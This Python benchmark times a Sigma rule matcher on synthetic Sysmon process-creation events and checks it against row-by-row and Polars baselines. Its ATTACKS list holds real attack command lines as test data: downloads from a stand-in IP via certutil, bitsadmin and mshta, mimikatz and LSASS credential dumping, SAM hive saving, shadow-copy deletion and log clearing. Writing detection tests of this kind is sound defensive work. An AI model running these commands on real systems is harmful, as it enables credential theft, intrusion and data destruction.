"""Sigma rules on process-creation events: events a second, against evaluating every rule on every event.

Two baselines stand beside the matcher, on a part of the same events: every rule's condition in Python, row by row, and every
rule as one Polars expression over columns that are already taken apart. All three must find the same.
"""

from __future__ import annotations

import json
import random
import time
from collections.abc import Callable, Sequence
from datetime import UTC, datetime, timedelta
from functools import reduce
from operator import and_, or_
from pathlib import Path
from typing import TypeVar

import polars as pl
from bench.machine import Figure, shared_data

from vedette.detection.sigma.expressions import check_of, places_in
from vedette.detection.sigma.fields import Record, field_values
from vedette.detection.sigma.loading import load_rules
from vedette.detection.sigma.matching import RuleMatcher
from vedette.detection.sigma.rules import AllOf, AnyOf, Clause, DetectionRule, Node, Not, Operator
from vedette.model.events import EVENT_SCHEMA
from vedette.model.inline import inline

EVENTS = 200_000
EVENTS_PER_BATCH = 50_000
ROW_BASELINE = 400
COLUMN_BASELINE = 4_000
MALICIOUS_SHARE = 0.01
MUST, GOAL, RATIO_MUST = 50_000, 200_000, 20
T = TypeVar("T")
START = datetime(2026, 3, 1, tzinfo=UTC)

SYSTEM = "C:\\Windows\\System32"
CMD, SERVICES, SVCHOST = (f"{SYSTEM}\\{name}.exe" for name in ("cmd", "services", "svchost"))
POWERSHELL = f"{SYSTEM}\\WindowsPowerShell\\v1.0\\powershell.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
CODE = "C:\\Program Files\\Microsoft VS Code\\Code.exe"
NODE = "C:\\Program Files\\nodejs\\node.exe"
PYTHON = "C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python312\\python.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18"
PUBLIC = "C:\\Users\\Public\\{word}.exe"
EVIL = "http://198.51.100.7/{word}"
PROGRAMS = (
    (SVCHOST, "-k netsvcs -p -s {word}", SERVICES),
    (f"{SYSTEM}\\conhost.exe", "0xffffffff -ForceV1", CMD),
    (f"{SYSTEM}\\taskhostw.exe", "{word}", SVCHOST),
    (f"{SYSTEM}\\backgroundTaskHost.exe", "-ServerName:{word}.AppX{hex}.mca", SVCHOST),
    (f"{SYSTEM}\\RuntimeBroker.exe", "-Embedding", SVCHOST),
    (f"{SYSTEM}\\SearchProtocolHost.exe", "Global\\UsGthrFltPipe{number}_ {hex}", f"{SYSTEM}\\SearchIndexer.exe"),
    (f"{SYSTEM}\\dllhost.exe", "/Processid:{{{hex}}}", SVCHOST),
    (CMD, '/d /s /c "npm run {word}"', NODE),
    (POWERSHELL, "-File C:\\Scripts\\{word}.ps1 -Number {number}", EXPLORER),
    (CHROME, "--type=renderer --lang=en-US --renderer-client-id={number} --field-trial-handle={hex}", CHROME),
    (CODE, "--type=utility --utility-sub-type=node.mojom.NodeService --handle={number}", CODE),
    ("C:\\Program Files\\Git\\mingw64\\bin\\git.exe", "log --format=%H -n {number} -- src/{word}.py", CODE),
    (NODE, "node_modules\\.bin\\{word} --port {number}", CMD),
    (PYTHON, "-m {word} --seed {number}", EXPLORER),
    (WORD, '/n "C:\\Users\\{user}\\Documents\\{word} {number}.docx" /o ""', EXPLORER),
    (EDGE, "--type=gpu-process --gpu-preferences={hex}", EDGE),
    (f"{DEFENDER}\\MpCmdRun.exe", "SignatureUpdate -ScheduleJob -{word}", f"{DEFENDER}\\MsMpEng.exe"),
    (f"{SYSTEM}\\wbem\\WmiPrvSE.exe", "-secured -Embedding", SVCHOST),
)
ATTACKS = (
    (f"{SYSTEM}\\vssadmin.exe", "delete shadows /all /quiet", CMD),
    (POWERSHELL, "-nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3{hex}", WORD),
    (f"{SYSTEM}\\rundll32.exe", f"{SYSTEM}\\comsvcs.dll, MiniDump {{number}} C:\\Temp\\{{word}}.dmp full", CMD),
    (f"{SYSTEM}\\certutil.exe", f"-urlcache -split -f {EVIL}.exe {PUBLIC}", CMD),
    (f"{SYSTEM}\\reg.exe", "save HKLM\\SAM C:\\Temp\\{word}.hiv", CMD),
    (f"{SYSTEM}\\wbem\\WMIC.exe", '/node:10.0.0.{number} process call create "cmd /c whoami"', CMD),
    (f"{SYSTEM}\\schtasks.exe", f"/create /sc minute /mo 1 /tn {{word}} /tr {PUBLIC} /ru SYSTEM", CMD),
    (f"{SYSTEM}\\net.exe", "localgroup administrators {word} /add", CMD),
    (f"{SYSTEM}\\whoami.exe", "/priv", f"{SYSTEM}\\inetsrv\\w3wp.exe"),
    ("C:\\Users\\Public\\mimikatz.exe", "privilege::debug sekurlsa::logonpasswords exit", CMD),
    (f"{SYSTEM}\\bitsadmin.exe", f"/transfer {{word}} /download {EVIL}.dll C:\\Temp\\{{word}}.dll", CMD),
    (f"{SYSTEM}\\mshta.exe", f'javascript:a=GetObject("script:{EVIL}.sct").Exec();', EXPLORER),
    (f"{SYSTEM}\\wevtutil.exe", "cl Security", CMD),
    (f"{SYSTEM}\\bcdedit.exe", "/set {{default}} recoveryenabled no", CMD),
)
WORDS = (
    "orders",
    "ledger",
    "report",
    "invoice",
    "backup",
    "weather",
    "catalog",
    "metrics",
    "photos",
    "search",
    "planner",
)


def run(folder: Path, scale: float) -> list[Figure]:
    source = shared_data() / "sigma"
    if not source.is_dir():
        return []
    began = time.perf_counter()
    rule_set = load_rules([source], pack="sigmahq")
    figures = [Figure("load all SigmaHQ rules", time.perf_counter() - began, "s", must=6.0, more_is_better=False, details={
        "rules": len(rule_set.rules), "problems": len(rule_set.problems)})]  # fmt: skip
    rules = [
        rule
        for rule in rule_set.detections
        if rule.logsource.product == "windows" and rule.logsource.category == "process_creation"
    ]
    events = process_creations(max(10_000, int(EVENTS * scale)), seed=1)
    matcher = RuleMatcher(rules)
    matcher.match(events.head(1_000))
    batches = [events.slice(start, EVENTS_PER_BATCH) for start in range(0, events.height, EVENTS_PER_BATCH)]
    seconds, found = timed(lambda: sum(matcher.match(one).height for one in batches))
    speed = events.height / seconds
    rows, row_pairs = row_by_row(rules, events.head(ROW_BASELINE))
    columns, column_pairs = every_rule_on_every_row(rules, events.head(COLUMN_BASELINE))
    pairs = [set(matcher.match(events.head(count)).iter_rows()) for count in (ROW_BASELINE, COLUMN_BASELINE)]
    if pairs[0] != row_pairs or pairs[1] != column_pairs:
        raise RuntimeError("matcher and baselines found different things")
    figures.append(Figure("Windows process creation, all rules", speed, "events/s", must=MUST, goal=GOAL, details={
        "rules": len(rules), "matches": found, "events": events.height}))  # fmt: skip
    figures.append(Figure("every rule on every row, Polars expressions", columns, "events/s"))
    figures.append(Figure("every rule on every row, Python", rows, "events/s"))
    figures.append(Figure("times the faster baseline", speed / max(rows, columns), "", must=RATIO_MUST))
    match = inline(RuleMatcher(rule_set.detections).match)
    small = [events.slice(start, 100) for start in range(0, 5_000, 100)]
    for one in small[:20]:
        match(one)
    seconds, _ = timed(lambda: [match(one) for one in small[20:]])
    figures.append(Figure("batch of 100 events, all SigmaHQ rules", seconds / 30 * 1000, "ms", more_is_better=False))
    return figures


def timed(work: Callable[[], T]) -> tuple[float, T]:
    began = time.perf_counter()
    result = work()
    return time.perf_counter() - began, result


def process_creations(count: int, *, seed: int) -> pl.DataFrame:
    """Sysmon's event 1 as the Windows format makes events of it."""
    chance = random.Random(seed)
    rows = [_event(chance, number) for number in range(count)]
    return pl.DataFrame(rows, schema={name: EVENT_SCHEMA[name] for name in rows[0]}).select(
        pl.col(name) if name in rows[0] else pl.lit(None, dtype=dtype).alias(name)
        for name, dtype in EVENT_SCHEMA.items()
    )


def _event(chance: random.Random, number: int) -> dict[str, object]:
    image, arguments, parent = chance.choice(ATTACKS if chance.random() < MALICIOUS_SHARE else PROGRAMS)
    user = f"user{chance.randrange(400)}"
    names = {
        "user": user,
        "word": chance.choice(WORDS),
        "number": chance.randrange(9_999),
        "hex": f"{chance.getrandbits(96):x}",
    }
    image = image.format(**names)
    command = f'"{image}" {arguments.format(**names)}'
    moment = START + timedelta(milliseconds=7 * number)
    fields = {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "CommandLine": command,
        "Company": "Microsoft Corporation" if "\\Windows\\" in image else "-",
        "Computer": f"ws{chance.randrange(200)}.example.net",
        "CurrentDirectory": "C:\\Windows\\system32\\" if "\\Windows\\" in image else f"C:\\Users\\{user}\\",
        "Description": f"{image.rpartition(chr(92))[2]} host",
        "EventID": "1",
        "EventRecordID": str(number),
        "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)",
        "Hashes": f"SHA256={chance.getrandbits(256):064X},IMPHASH={chance.getrandbits(128):032X}",
        "Image": image,
        "IntegrityLevel": chance.choice(("Medium", "High", "System")),
        "LogonGuid": f"{{{chance.getrandbits(128):032x}}}",
        "LogonId": f"0x{chance.getrandbits(20):x}",
        "OriginalFileName": image.rpartition("\\")[2],
        "ParentCommandLine": f'"{parent}"',
        "ParentImage": parent,
        "ParentProcessGuid": f"{{{chance.getrandbits(128):032x}}}",
        "ParentProcessId": str(chance.randrange(9_999)),
        "ProcessGuid": f"{{{chance.getrandbits(128):032x}}}",
        "ProcessId": str(chance.randrange(9_999)),
        "Product": "Microsoft® Windows® Operating System",
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "User": f"SHOP\\{user}",
        "UtcTime": f"{moment:%Y-%m-%d %H:%M:%S.%f}"[:-3],
    }
    text = json.dumps(fields, ensure_ascii=False, separators=(",", ":"))
    return {
        "@timestamp": moment,
        "event.original": text,
        "message": text,
        "vedette.generation": 1,
        "log.offset": number * 1_000,
        "log.format": "windows-event",
        "host.name": fields["Computer"],
        "process.name": "Microsoft-Windows-Sysmon",
        "user.name": fields["User"],
        "event.category": "process",
        "event.action": "process-created",
        "process.executable": image,
        "process.command_line": command,
        "fields": text,
    }


def row_by_row(rules: Sequence[DetectionRule], events: pl.DataFrame) -> tuple[float, set[tuple[int, int]]]:
    """Events a second, and the matches as (rule, row)."""
    checks = [check_of(rule.condition, places_in(rule.logsource)) for rule in rules]

    def work() -> set[tuple[int, int]]:
        records = enumerate(map(Record, events.iter_rows(named=True)))
        return {(place, row) for row, record in records for place, check in enumerate(checks) if check(record)}

    seconds, pairs = timed(work)
    return events.height / seconds, pairs


def every_rule_on_every_row(rules: Sequence[DetectionRule], events: pl.DataFrame) -> tuple[float, set[tuple[int, int]]]:
    """The same in columns: those the rules ask for are taken apart once, in small letters, outside the timing."""
    names = sorted({field for rule in rules for field in _fields_in(rule.condition)})
    columns = pl.DataFrame([field_values(events, one, logsource=rules[0].logsource).alias(one) for one in names])
    record = events["event.original"] + "\n" + events["event.original"].str.replace_all("\\\\", "\\", literal=True)
    lower = columns.with_columns(record.alias("")).select(pl.all().str.to_lowercase())
    both = pl.concat([lower, columns.rename(lambda name: f"cased.{name}")], how="horizontal")
    expressions = [_expression(rule.condition).alias(str(place)) for place, rule in enumerate(rules)]
    both.head(1).select(expressions)
    seconds, held = timed(lambda: both.select(expressions))
    return events.height / seconds, {
        (place, row) for place in range(len(rules)) for row in held[str(place)].arg_true().to_list()
    }


def _fields_in(node: Node) -> set[str]:
    match node:
        case Clause():
            others = {node.value.strip("*")} if node.operator is Operator.SAME_AS else set()
            return others | ({node.field} if node.field is not None else set())
        case Not(member):
            return _fields_in(member)
        case AllOf(members) | AnyOf(members):
            return set().union(*map(_fields_in, members))


def _expression(node: Node) -> pl.Expr:
    match node:
        case Not(member):
            return ~_expression(member)
        case AllOf(members):
            return reduce(and_, map(_expression, members))
        case AnyOf(members):
            return reduce(or_, map(_expression, members))
    column, wanted = pl.col(node.field or ""), node.value.lower()
    match node.operator:
        case Operator.EQUALS:
            held = column == wanted
        case Operator.STARTS:
            held = column.str.starts_with(wanted)
        case Operator.ENDS:
            held = column.str.ends_with(wanted)
        case Operator.CONTAINS:
            held = column.str.contains(wanted, literal=True)
        case Operator.LIKE:
            held = column.str.contains(node.value)
        case Operator.REGEX:
            held = pl.col(f"cased.{node.field}").str.contains(node.value)
        case Operator.IS_NULL:
            held = column.is_null() | (column == "")
        case Operator.EXISTS:
            held = column.is_not_null() == (node.value == "true")
        case Operator.SAME_AS:
            held = column == pl.col(node.value)
        case _:
            raise NotImplementedError(node.operator)
    return held.fill_null(value=False)
